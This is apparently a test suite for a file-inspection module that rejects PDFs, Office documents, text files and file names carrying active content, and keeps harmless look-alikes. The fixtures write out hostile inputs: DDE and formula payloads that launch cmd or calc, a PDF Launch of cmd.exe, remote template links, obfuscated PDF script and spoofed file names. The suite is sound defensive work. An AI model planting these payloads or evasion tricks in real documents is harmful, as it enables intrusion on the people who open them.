/** What would run, fetch or start something is no evidence: in PDFs, Office files, texts and by the name alone; what merely looks so is kept. */
import { deflateSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { Refusal } from '../../src/errors.ts';
import { inspectFile } from '../../src/files/inspect.ts';

const limits = { most: 25 * 1024 * 1024 };
const text = (words: string) => strToU8(words);

async function outcome(name: string, content: Uint8Array): Promise<string> {
  try {
    return (await inspectFile(name, content, limits)).mediaType;
  } catch (error) {
    if (error instanceof Refusal) return `refused: ${error.message}`;
    throw error;
  }
}

const pdf = (...objects: (string | Buffer)[]) =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n%\u00e2\u00e3\n', 'latin1'),
    ...objects.flatMap((object, index) => [
      Buffer.from(`${index + 1} 0 obj\n`),
      typeof object === 'string' ? Buffer.from(object, 'latin1') : object,
      Buffer.from('\nendobj\n'),
    ]),
    Buffer.from('trailer\n<</Root 1 0 R>>\n%%EOF\n'),
  ]);
const stream = (dictionary: string, content: Buffer | string, gap = '\n') =>
  Buffer.concat([
    Buffer.from(`<<${dictionary}>>${gap}stream\n`),
    Buffer.from(content as string),
    Buffer.from('\nendstream'),
  ]);
/** Objects packed into one stream, as most writers do. */
const packed = (object: string, { filter = '/FlateDecode', gap = '\n', rest = '' } = {}) => {
  const words = `7 0 ${object}`;
  const content = filter === '' ? words : deflateSync(Buffer.from(words));
  return stream(
    `/Type/ObjStm/N 1/First 4${filter === '' ? '' : `/Filter${filter}`}${rest}/Length ${content.length}`,
    content,
    gap,
  );
};
const script = '<</S/JavaScript/JS(app.alert(1))>>';

describe('a PDF', () => {
  it.each<[what: string, content: Uint8Array, words: RegExp]>([
    ['runs a script when it is opened', pdf('<</OpenAction 2 0 R>>', script), /^refused: a\.pdf holds script, and programs cannot be kept as evidence\. Print it as a PDF once more/],
    ['spells script with other signs', pdf('<</S/J#61vaScript/J#53(x)>>'), /holds script/],
    ['packs its script', pdf(packed(script)), /holds script/],
    ['packs it behind a comment', pdf(packed(script, { gap: `\n%${'x'.repeat(300)}\n  ` })), /holds script/],
    ['packs it without packing', pdf(packed(`(endstream)`, { filter: '' }), packed(script, { filter: '' })), /holds script/],
    ['packs it in an array of one', pdf(packed(script, { filter: '[ /Fl ]' })), /holds script/],
    ['packs it twice', pdf(packed(script, { filter: '[/FlateDecode/FlateDecode]' })), /packed so that nobody can look inside/],
    ['packs it in another way', pdf(packed(script, { filter: '/LZWDecode' })), /packed so that nobody can look inside/],
    ['packs it by reference', pdf(packed(script, { filter: ' 5 0 R' })), /packed so that nobody can look inside/],
    ['packs it behind a predictor', pdf(packed(script, { rest: '/DecodeParms<</Predictor 12/Columns 4>>' })), /packed so that/],
    ['packs what is damaged', pdf(stream('/N 1/First 4/Filter/FlateDecode', Buffer.alloc(40, 7))), /packed so that/],
    ['packs more than anybody writes', pdf(stream('/N 1/First 4/Filter/FlateDecode', deflateSync(Buffer.alloc(70 * 1024 * 1024, 32)))), /packed so that/],
    ['hides an object in what looks like a picture', pdf(stream('/Length 99', `x 9 0 obj ${script} endobj`)), /holds script/],
    ['hides it behind a bracket that nobody closes', Buffer.from(`%PDF-1.7\n( 1 0 obj\n[ >> ${script} ]\nendobj\n`), /holds script/],
    ['starts a program', pdf('<</A<</S/Launch/F(cmd.exe)>>>>'), /a command that starts a program/],
    ['carries a file', pdf('<</Names<</EmbeddedFiles 2 0 R>>>>', stream('/Type/EmbeddedFile', 'MZ')), /another file packed into it/],
    ['carries media', pdf('<</Subtype/RichMedia>>'), /media that can carry programs/],
    ['carries a form of another kind', pdf('<</AcroForm<</XFA 2 0 R>>>>'), /a form that can carry programs/],
    ['sends what is filled in', pdf('<</S/SubmitForm/F(https://e.example)>>'), /a form that sends data/],
    ['is protected', Buffer.from('%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<</Root 1 0 R/Encrypt 9 0 R>>\n%%EOF'), /is protected, so that nobody can look inside/],
    ['begins objects without end', Buffer.from(`%PDF-1.7\n${'obj<<'.repeat(200_000)}`), /packed so that/],
  ])('that %s is refused', async (_what, content, words) => {
    expect(await outcome('a.pdf', content)).toMatch(words);
  }); // prettier-ignore

  it('that only speaks of scripts is kept', async () => {
    const harmless = [
      pdf('<</Type/Catalog/OpenAction[3 0 R/Fit]/Metadata 4 0 R>>', '<</A<</S/URI/URI(https://e.example/JavaScript/Launch)>>/Contents(\\(/JS\\) /XFA)>>'),
      pdf(stream('/Length 40', 'BT (/JavaScript /Launch) Tj ET % /JS')),
      pdf(packed('<</Type/Font/BaseFont/JSans/Title(see /JavaScript)>>')),
      pdf('<</JSx 1/Launcher 2/Nxt/XFArm>> % /JavaScript'),
    ];

    for (const content of harmless) expect(await outcome('a.pdf', content)).toBe('application/pdf');
  }); // prettier-ignore
});

const types = (part: string) =>
  `<?xml version="1.0"?><Types><Override PartName="/x" ContentType="application/vnd.openxmlformats-officedocument.${part}.main+xml"/></Types>`;
const office = (part: string, more: Record<string, string | Uint8Array>) =>
  zipSync({
    '[Content_Types].xml': text(types(part)),
    ...Object.fromEntries(
      Object.entries(more).map(([name, each]) => [name, typeof each === 'string' ? text(each) : each]),
    ),
  });
const docx = (document: string, more: Record<string, string | Uint8Array> = {}) =>
  office('wordprocessingml.document', {
    'word/document.xml': `<w:document>${document}</w:document>`,
    ...more,
  });
const xlsx = (sheet: string, more: Record<string, string | Uint8Array> = {}) =>
  office('spreadsheetml.sheet', { 'xl/worksheets/sheet1.xml': `<worksheet>${sheet}</worksheet>`, ...more });
const rel = (type: string, target: string, mode = 'External') =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
const linked = (...relation: Parameters<typeof rel>) =>
  docx('', { 'word/_rels/settings.xml.rels': rel(...relation) });
const run = (words: string) => `<w:r><w:instrText xml:space="preserve">${words}</w:instrText></w:r>`;
const odt = (content: string) =>
  zipSync({
    mimetype: [text('application/vnd.oasis.opendocument.text'), { level: 0 }],
    'META-INF/manifest.xml': text('<manifest/>'),
    'content.xml': text(content),
  });
const utf16 = (words: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(words, 'utf16le')]);

describe('an Office file', () => {
  const elsewhere = /that is fetched from elsewhere when it is opened/;
  const field = /a field that runs or fetches something/;
  it.each<[what: string, content: Uint8Array, words: RegExp]>([
    ['takes its template from the web', linked('attachedTemplate', 'https://e.example/t.dotm'), /holds a template that is fetched from elsewhere when it is opened\. Save it without/],
    ['takes it from a share', linked('attachedTemplate', '\\\\e.example\\t.dotm'), elsewhere],
    ['takes it from a share, said otherwise', linked('attachedTemplate', 'file://e.example/t.dotm'), elsewhere],
    ['hides the address behind signs', linked('attachedTemplate', '&#104;ttps://e.example/t', '&#x45;xternal'), elsewhere],
    ['says it in another encoding', docx('', { 'word/_rels/settings.xml.rels': utf16(rel('attachedTemplate', 'https://e.example/t')) }), elsewhere],
    ['says it in an encoding of its own', docx('', { 'word/a.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>' }), /a part that I cannot read/],
    ['defines words of its own', docx('', { 'word/a.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a/>' }), /markup that defines its own words/],
    ['shows a picture from the web', linked('image', 'https://e.example/p.png'), elsewhere],
    ['shows an object from the web', linked('oleObject', 'https://e.example/o'), /a part that runs something/],
    ['holds an object of another program', docx('', { 'word/embeddings/oleObject1.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex') }), /another file packed into it/],
    ['holds a control', docx('', { 'word/activeX/activeX1.xml': '<ax:ocx/>' }), /an ActiveX control/],
    ['holds a page', docx('', { 'word/_rels/document.xml.rels': rel('aFChunk', 'a.html', 'Internal') }), /a part that runs something/],
    ['holds an add-in', docx('', { 'word/webextensions/webextension1.xml': '<we/>' }), /an add-in/],
    ['asks another program', docx(`<w:fldChar w:fldCharType="begin"/>${run(' DDEAUTO c:\\\\x "/k calc"')}`), field],
    ['asks it in pieces', docx(`<w:fldChar w:fldCharType="begin"/>${run(' DD')}<w:r><w:t>nothing</w:t></w:r>${run('EAU<!-- -->TO x')}`), field],
    ['asks it in numbers', docx(run('QUOTE 68 68 69 65 85 84 79')), field],
    ['asks it in one word', docx('<w:fldSimple w:instr=\' d&#100;e excel "x"\'/>'), field],
    ['brings a picture by a field', docx(run('INCLUDEPICTURE "https://e.example/p" \\d')), field],
    ['asks another program from a sheet', xlsx('', { 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' }), /runs or fetches something/],
    ['asks it in a formula', xlsx("<c><f>cmd|'/C calc'!A0</f></c>"), /a formula that runs or fetches/],
    ['fetches in a formula', xlsx('<c><f>_xlfn.WEBSERVICE("https://e.example/"&amp;A1)</f></c>'), /a formula that runs or fetches/],
    ['fetches by a connection', xlsx('', { 'xl/connections.xml': '<connections/>' }), /a connection that fetches/],
    ['links to a table on the web', xlsx('', { 'xl/externalLinks/_rels/externalLink1.xml.rels': rel('externalLinkPath', 'https://e.example/t.xlsx') }), elsewhere],
    ['listens for events', odt('<office:document><script:event-listener script:event-name="dom:load"/></office:document>'), /runs or fetches/],
    ['shows another page inside', odt('<draw:floating-frame xlink:href="https://e.example"/>'), /runs or fetches/],
    ['loads a picture from the web', odt('<draw:image xlink:href="https://e.example/p.png"/>'), elsewhere],
    ['ends a tag nowhere', docx('', { 'word/a.xml': `<a>${'<Relationship a="'.repeat(100_000)}` }), /too long to be looked into/],
  ])('that %s is refused', async (_what, content, words) => {
    expect(await outcome('plan.docx', content)).toMatch(words);
  }); // prettier-ignore

  it('with links to be clicked, local templates, other fields and plain formulas is kept', async () => {
    const kept = [
      linked('hyperlink', 'https://e.example/'),
      linked('attachedTemplate', 'file:///C:\\Users\\omar\\Templates\\Report.dotx'),
      docx(`${run(' PAGE ')}<w:fldChar/>${run('HYPERLINK "https://e.example"')}<w:fldChar/>${run('ADDIN ZOTERO_ITEM')}<w:t>DDEAUTO is a field</w:t>`),
      docx('<w:t>&lt;script&gt;</w:t>', { 'word/media/image1.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>' }),
      xlsx('<c><f>CONCATENATE(A1,"|",Sheet2!B1)</f></c><c><f>SUM(A1:A9)&amp;"WEBSERVICE("</f></c><controls><control name="Check Box 1"/></controls>'),
      xlsx('', { 'xl/externalLinks/_rels/externalLink1.xml.rels': rel('externalLinkPath', 'Book2.xlsx') }),
      odt('<text:a xlink:href="https://e.example">x</text:a><draw:image xlink:href="Pictures/1.png"/>'),
    ];

    for (const content of kept) expect(await outcome('plan.docx', content)).toMatch(/^application\/vnd\./);
  }); // prettier-ignore
});

describe('a text or a name', () => {
  it.each<[name: string, content: string]>([
    ['notes.txt', 'ID;PWXL;N;E\r\nC;Y1;X1;E"=cmd"'],
    ['notes.txt', '[InternetShortcut]\r\nURL=file://e.example/x'],
    ['notes.txt', '[Shell]\r\nIconFile=\\\\e.example\\x.ico'],
    ['notes.txt', 'WEB\r\n1\r\nhttps://e.example'],
    ['table.csv', "name;left on\r\n=cmd|' /C calc'!A0;x"],
  ])('that a computer obeys is refused: %s', async (name, content) => {
    expect(await outcome(name, text(content))).toMatch(/^refused: .* is a program/);
  });

  it.each([
    'a.slk', 'a.iqy', 'a.url', 'a.lnk', 'a.scf', 'a.library-ms', 'a.settingcontent-ms', 'a.hta', 'a.chm', 'a.one', 'a.html', 'a.SVG', 'a.bat::$DATA', 'a.bat:x.txt',
    'a.bat.', 'a.bat . .', 'report.pdf.js', 'a.b\u200Bat', 'a．bat', 'NUL', 'con.txt', 'Lpt1.pdf', 'C:\\x\\a.cmd', 'a.docm', 'a\u202Etxt.exe', 'a\u202Efdp.txt', 'a\u0007.txt',
  ])('is refused for its name, whatever is in it: %j', async (name) => {
    expect(await outcome(name, text('nothing but words'))).toMatch(/^refused: /);
    expect(await outcome('all.zip', zipSync({ [name.replace(/^C:\\x\\/, 'x/')]: text('nothing but words') }))).toMatch(/^refused: /);
  }); // prettier-ignore

  it.each(['report.v2.txt', 'Screen 10:30.txt', 'what is on example.com today.txt', 'console.log', 'Müßig.csv', '日本.md', 'no ending', 'a.com.png.txt'])(
    'is kept by an ordinary name: %s',
    async (name) => expect(await outcome(name, text('nothing but words, - a | b !'))).toBe('text/plain'),
  ); // prettier-ignore
});
